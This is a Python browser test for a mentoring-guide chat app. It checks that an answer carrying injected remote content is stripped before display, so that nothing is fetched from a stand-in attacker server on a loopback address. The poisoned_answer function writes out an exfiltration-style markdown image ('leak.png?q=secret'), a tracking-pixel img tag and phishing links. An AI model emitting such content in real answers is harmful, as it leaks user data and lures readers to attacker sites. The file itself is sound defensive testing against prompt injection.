"""An answer that carries remote content (a poisoned guide or an injected prompt made the model
write a markdown image, an HTML tag, links) makes the reader's browser fetch nothing from outside:
code removed them before the page got the text.

The model is a local OpenAI-compatible endpoint that streams such an answer; the "outside host"
is a second local server on another loopback address that counts every request it gets.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.e2e.ui import open_app, send, warm_up
from tests.e2e.webapp import WebApp, copy_data, running_app

pytestmark = [pytest.mark.browser, pytest.mark.slow]

OUTSIDE_HOST = "127.0.0.2"  # stands for an attacker's server; traffic stays on this machine


class Server:
    """A threaded HTTP server on ``host``; ``hits`` lists the paths it was asked for."""

    def __init__(self, host: str, answer: Any) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # the attacker's side
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def do_POST(self) -> None:  # the model endpoint's side
                hits.append(self.path)
                length = int(self.headers.get("Content-Length", 0))
                self.rfile.read(length)
                answer(self)

            def log_message(self, *args: object) -> None:
                pass

        self.http = ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self.http.server_address[1]}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.http.shutdown()
        self.http.server_close()


def poisoned_answer(outside: str) -> str:
    return (
        "A mentor shares experience and advice [1]. "
        f"![chart]({outside}/leak.png?q=secret) "
        f'<img src="{outside}/pixel.gif"> '
        f"Read [the full guide]({outside}/phish) or {outside}/bare now. "
        "A coach asks open questions [1]."
    )


def stream_chat(text: str) -> Any:
    """An OpenAI chat-completions stream (server-sent events) of ``text``, a few words a chunk."""

    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.end_headers()
        words = text.split(" ")
        for start in range(0, len(words), 3):
            piece = " ".join(words[start : start + 3]) + " "
            chunk = {
                "id": "chatcmpl-1",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "poisoned",
                "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}],
            }
            handler.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        handler.wfile.write(b"data: [DONE]\n\n")

    return answer


@pytest.fixture(scope="module")
def outside() -> Iterator[Server]:
    server = Server(OUTSIDE_HOST, lambda handler: None)
    yield server
    server.close()


@pytest.fixture(scope="module")
def app(
    browser: Browser, ingested_data: Path, outside: Server, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[WebApp]:
    model = Server("127.0.0.1", stream_chat(poisoned_answer(outside.url)))
    root = tmp_path_factory.mktemp("poisoned-app")
    data = copy_data(ingested_data, root / "data")
    settings = {
        "MENTOR_LLM_BACKEND": "openai",
        "OPENAI_BASE_URL": f"{model.url}/v1",
        "MENTOR_ANSWER_MODE": "model",  # the model's text is what carries the remote content
    }
    try:
        with running_app(data, root / "app.log", **settings) as web:
            warm_up(browser, web.url)
            yield web
    finally:
        model.close()


def test_an_answer_with_remote_content_fetches_nothing_from_outside(
    app: WebApp, page: Page, outside: Server
) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(_host(request)))
    open_app(page, app.url)
    reply = send(page, "What is the difference between coaching and mentoring?")
    expect(reply.locator("sub").last).to_contain_text("Sources")  # the answer has finished
    text = reply.inner_text()
    # the model's sentences are shown only if the guides support them; otherwise the guide's
    # own words are: either way an answer arrived, cleaned
    assert "A mentor shares experience and advice" in text or "Here is what the guide" in text
    assert OUTSIDE_HOST not in text and "<img" not in text
    assert reply.locator("img").count() == 0
    assert outside.hits == [], "the browser fetched something from the outside host"
    assert set(requested) <= {app.url.split("//")[1]}, requested


def _host(request: Request) -> str:
    return request.url.split("//", 1)[-1].split("/", 1)[0]
